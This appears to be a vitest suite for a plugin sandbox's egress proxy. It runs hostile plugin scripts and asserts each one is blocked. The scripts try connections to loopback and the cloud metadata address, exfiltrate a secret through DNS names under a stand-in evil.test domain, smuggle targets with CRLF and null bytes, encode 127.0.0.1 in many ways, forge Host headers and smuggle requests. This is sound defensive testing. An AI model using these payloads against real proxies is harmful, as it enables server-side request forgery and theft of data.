import { readdirSync } from "node:fs";
import { once } from "node:events";
import { createServer, type Server } from "node:net";
import { setImmediate as turn } from "node:timers/promises";
import { describeWith } from "@sigilrt/testing";
import { afterAll, beforeAll, beforeEach, expect, it } from "vitest";
import { type Internet, openInternet } from "./testing/internet.ts";

const site = "internet.example.org";

// Says what comes back for some bytes, sent to the relay or to the socket behind it.
const ask = `
import { connect } from "node:net";
export const ask = (bytes, at = 3128) => new Promise((resolve) => {
  const socket = connect(at); let said = "";
  socket.on("data", (chunk) => { said += chunk.toString("latin1"); });
  socket.on("error", (error) => resolve(error.code));
  socket.on("close", () => resolve(said));
  socket.write(bytes);
});
export const status = async (...given) => console.log((await ask(...given)).slice(9, 12));
`;

describeWith(["bwrap", "prlimit"], "a hostile plugin, with a granted destination,", () => {
  let internet: Internet;
  let canary: Server;
  let touched = 0;
  beforeAll(async () => {
    internet = await openInternet();
    await internet.confined.addCode("ask.mjs", ask);
    canary = createServer((socket) => {
      touched += 1;
      socket.destroy();
    }).listen(0, "127.0.0.1");
    await once(canary, "listening");
  });
  afterAll(async () => {
    canary.close();
    await internet[Symbol.asyncDispose]();
  });
  beforeEach(() => {
    const { violations } = internet.confined;
    for (const list of [internet.seen, internet.decisions, internet.resolved, violations]) {
      list.length = 0;
    }
    touched = 0;
  });

  /** Runs a module that has \`ask\`, \`status\` and the ports at hand. */
  const attack = async (script: string, grants: readonly string[] = internet.grants(site)) => {
    const at = canary.address();
    const other = typeof at === "object" && at !== null ? at.port : 0;
    const { stdout, stderr } = await internet.confined.node(
      `import { ask, status } from "./ask.mjs"; const port = ${internet.port}, canary = ${other}, site = "${site}";\n${script}\nconsole.log("end");`,
      { grants },
    );
    expect(stderr).toBe("");
    expect(stdout).toMatch(/end\n$/);
    return stdout.slice(0, -"end\n".length);
  };
  // Whoever started these tests may have left descriptors open, which is told as well.
  const kinds = () =>
    internet.confined.violations
      .map(({ kind }) => kind)
      .filter((kind) => kind !== "descriptor_covered");

  it("27 connects past the proxy: TCP and UDP to loopback, the metadata service, anywhere", async () => {
    const said = await attack(`
      import { createSocket } from "node:dgram";
      for (const target of [[canary, "127.0.0.1"], [port, "127.0.0.1"], [80, "169.254.169.254"], [443, "192.0.2.1"]])
        console.log(await new Promise((resolve) => { const s = connect(...target); s.on("error", (e) => resolve(e.code)); s.on("connect", () => resolve("open")); }));
      for (const address of ["127.0.0.1", "169.254.169.254", "192.0.2.53"])
        console.log(await new Promise((resolve) => { const s = createSocket("udp4"); s.on("error", (e) => resolve(e.code)); s.connect(53, address, (e) => e ? resolve(e.code) : s.send("x", (e) => resolve(e ? e.code : "sent"))); }));
      import { connect } from "node:net";
      process.exitCode = 0; setTimeout(() => process.exit(), 0); await 0;`);
    const lines = said.trim().split("\n");
    expect(lines.slice(0, 4).every((line) => /^E(?:CONNREFUSED|NETUNREACH)$/.test(line))).toBe(
      true,
    );
    // A datagram to its own loopback goes nowhere; others have no route.
    expect(lines.slice(5)).toEqual(["ENETUNREACH", "ENETUNREACH"]);
    expect([touched, internet.decisions.length]).toEqual([0, 0]);
  });

  it("28 asks a name server, or spells a secret in a name that is denied", async () => {
    const said = await attack(`
      import { lookup, Resolver } from "node:dns/promises";
      const r = new Resolver({ timeout: 500, tries: 1 }); r.setServers(["192.0.2.53"]);
      for (const go of [() => r.resolve4("s3cret.evil.test"), () => lookup("s3cret.evil.test")]) await go().then(() => console.log("open"), () => console.log("blocked"));
      await status("CONNECT s3cret.evil.test:443 HTTP/1.1\\r\\n\\r\\n");`);
    expect(said).toBe("blocked\nblocked\n403\n");
    expect(internet.resolved).toEqual([]);
    expect(kinds()).toEqual(["egress_denied"]);
  });

  it("29 has no way out without a grant: no relay, no socket, no variable", async () => {
    const { stdout } = await internet.confined.shell(
      "echo /run/sigil/*; env; while read -r l; do echo $l; done < /proc/net/tcp",
      { grants: [] },
    );
    expect(stdout).toContain("/run/sigil/prlimit\n");
    expect(stdout).not.toMatch(/relay|egress|proxy|3128|0C38/i);
  });

  it("30 asks for another port or host, at the relay and at the socket behind it", async () => {
    const said = await attack(`
      for (const at of [3128, process.env.SIGIL_EGRESS_SOCKET]) {
        await status("CONNECT " + site + ":" + canary + " HTTP/1.1\\r\\n\\r\\n", at);
        await status("CONNECT x." + site + ":" + port + " HTTP/1.1\\r\\n\\r\\n", at);
        await status("GET http://" + site + ":" + canary + "/ HTTP/1.1\\r\\n\\r\\n", at);
        await status("GET http://" + site + ":" + port + "/ HTTP/1.1\\r\\n\\r\\n", at);
      }`);
    expect(said).toBe("403\n403\n403\n200\n".repeat(2));
    expect([touched, internet.seen.length]).toEqual([0, 2]);
    expect(kinds()).toEqual(Array.from({ length: 6 }, () => "egress_denied"));
  });

  it("31 writes a target that two readers would understand differently", async () => {
    const said = await attack(`
      for (const between of ["@", "#", "\\0", "\\r\\n", "%00", "%0d%0a", "\\\\", " ", "/"])
        await status("CONNECT " + site + between + "evil.test:" + port + " HTTP/1.1\\r\\n\\r\\n");`);
    expect(said).toBe("403\n".repeat(9));
    expect(internet.resolved).toEqual([]);
    expect(new Set(kinds())).toEqual(new Set(["egress_malformed"]));
  });

  it("32 spells the canary's address in every way", async () => {
    const said = await attack(`
      for (const host of ["127.0.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "0", "localhost", "[64:ff9b::7f00:1]"]) {
        await status("CONNECT " + host + ":" + canary + " HTTP/1.1\\r\\n\\r\\n");
        await status("GET http://" + host + ":" + canary + "/ HTTP/1.1\\r\\n\\r\\n");
      }`);
    expect(said).toBe("403\n".repeat(22));
    expect([touched, internet.resolved.length]).toEqual([0, 0]);
  });

  it("33 has a granted name lead to a private address, alone or among public ones", async () => {
    const names = ["private.example.org", "a.mixed.test"];
    const said = await attack(
      `for (const host of ${JSON.stringify(names)}) await status("CONNECT " + host + ":" + port + " HTTP/1.1\\r\\n\\r\\n");`,
      // The literal is granted at another port alone.
      [...names.map((name) => `net.connect.${name}:${internet.port}`), "net.connect.127.0.0.1:1"],
    );
    expect(said).toBe("403\n403\n");
    expect(internet.resolved).toEqual(names);
    expect(kinds()).toEqual(["egress_address", "egress_address"]);
    expect(internet.decisions.map(({ outcome, address }) => [outcome, address])).toEqual([
      ["allowed", undefined],
      ["address_refused", "127.0.0.1"],
      ["allowed", undefined],
      ["address_refused", "10.0.0.1"],
    ]);
  });

  it("34 forges Host, sends a second request behind the first, and frames a body twice", async () => {
    const said = await attack(`
      const get = "GET http://" + site + ":" + port + "/one HTTP/1.1\\r\\n";
      await status(get + "Host: evil.test\\r\\n\\r\\nGET http://evil.test/two HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n");
      await status(get + "Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n");
      await status(get + "Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /two HTTP/1.1\\r\\n\\r\\n");`);
    expect(said).toBe("200\n403\n403\n");
    expect(internet.seen.map(({ line, host }) => `${line} ${host}`)).toEqual([
      `GET /one HTTP/1.1 ${site}:${internet.port}`,
    ]);
  });

  it("kills the relay: everything ends, and that is told", async () => {
    await internet.confined.addCode(
      "kill.mjs",
      "process.kill(process.ppid, 'SIGKILL'); setInterval(() => {}, 1000);",
    );
    await using started = await internet.confined.start({
      command: ["node", "/plugin/kill.mjs"],
      grants: internet.grants(site),
    });
    expect((await started.exited).signal).toBe("SIGKILL");
    expect(kinds()).toEqual(["relay_died"]);
  });

  it("behind the relay ends as without it: by a code, a signal, SIGTERM, and with its link", async () => {
    const grants = internet.grants(site);
    const ends = async (
      script: string,
      change?: (started: { terminate(): Promise<void> }) => Promise<void>,
    ) => {
      await internet.confined.addCode("end.mjs", script);
      await using started = await internet.confined.start(
        { command: ["node", "/plugin/end.mjs"], grants },
        { link: true },
      );
      if (change !== undefined) {
        await once(started.link ?? started.stdout, "data");
        await change(started);
      }
      return await started.exited;
    };
    expect(await ends("process.exit(7)")).toEqual({ code: 7, signal: null, reason: "exited" });
    expect(await ends("process.kill(process.pid, 'SIGABRT'); setInterval(() => {}, 1000)")).toEqual(
      {
        code: null,
        signal: "SIGABRT",
        reason: "signalled",
      },
    );
    const told =
      "import { Socket } from 'node:net'; process.on('SIGTERM', () => process.exit(5)); new Socket({ fd: 3 }).write('up'); setInterval(() => {}, 1000)";
    expect(await ends(told, (started) => started.terminate())).toEqual({
      code: 5,
      signal: null,
      reason: "terminated",
    });
    expect(kinds()).toEqual([]);
  });

  it("opens tunnels up to the limit in eight plugins at once; the next is refused, and nothing is left open", async () => {
    const descriptors = () => readdirSync("/proc/self/fd").length;
    const before = descriptors();
    await internet.confined.addCode(
      "tunnels.mjs",
      `import { connect } from "node:net";
const open = () => new Promise((resolve) => { const s = connect(3128); s.on("error", () => resolve("error")); s.once("data", (d) => resolve(String(d).slice(9, 12))); s.write("CONNECT ${site}:${internet.port} HTTP/1.1\\r\\n\\r\\n"); });
const said = [];
for (let n = 0; n < 8; n++) said.push(...await Promise.all(Array.from({ length: 16 }, open)));
console.log(said.filter((status) => status === "200").length, await open());
setInterval(() => {}, 1000);
`,
    );
    const plugins = await Promise.all(
      Array.from({ length: 8 }, () =>
        internet.confined.start({
          command: ["node", "/plugin/tunnels.mjs"],
          grants: internet.grants(site),
        }),
      ),
    );
    const said = await Promise.all(
      plugins.map(async ({ stdout }) => String((await once(stdout, "data"))[0])),
    );
    expect(said).toEqual(Array.from({ length: 8 }, () => "128 503\n"));
    await Promise.all(plugins.map((started) => started.close()));
    expect(new Set(kinds())).toEqual(new Set(["egress_limited"]));
    const folders = readdirSync(internet.confined.options.runtimeDirectory);
    expect(folders.filter((name) => /^[es]-/.test(name))).toEqual([]);
    await internet.settled();
    // Descriptors are closed in the turns after their sockets.
    for (let turns = 1_000; turns > 0 && descriptors() > before; turns -= 1) {
      // oxlint-disable-next-line no-await-in-loop -- one turn after the other
      await turn();
    }
    expect(descriptors()).toBeLessThanOrEqual(before);
  });
});
